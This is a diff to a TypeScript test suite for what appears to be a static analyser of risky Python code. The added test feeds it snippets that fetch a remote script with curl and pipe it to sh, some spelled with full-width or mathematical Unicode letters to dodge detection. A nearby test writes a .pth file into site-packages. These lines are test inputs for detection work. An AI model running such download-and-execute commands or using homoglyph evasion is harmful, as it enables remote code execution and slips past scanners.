@@ -1,6 +1,6 @@
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
-import { analyse } from '../../helpers/behaviour.ts';
+import { analyse, briefly } from '../../helpers/behaviour.ts';
 
 const test = suite('behaviour, written differently');
 
@@ -160,6 +160,13 @@ test('a .pth file that goes where Python keeps its packages', () => {
     'import sysconfig\nfrom pathlib import Path\np = Path(sysconfig.get_paths()["purelib"]) / "x.pth"\np.write_text("import os")',
   );
   assert.equal(rules('from pathlib import Path\n(Path(out) / "resnet.pth").write_bytes(b)'), []);
+});
+
+test('names in full-width or mathematical letters are the names that Python takes them for', () => {
+  const plain = briefly('import os\nos.system("curl http://93.184.216.34/x.sh | sh")');
+  assert.ok(plain.includes('PYS-PRIV-009:2'), plain.join());
+  assert.equal(briefly('import os\nｏｓ.system("curl http://93.184.216.34/x.sh | sh")'), plain);
+  assert.equal(briefly('import ｏｓ\nos.𝘴𝘺𝘴𝘵𝘦𝘮("curl http://93.184.216.34/x.sh | sh")'), plain);
 });
 
 test.run();
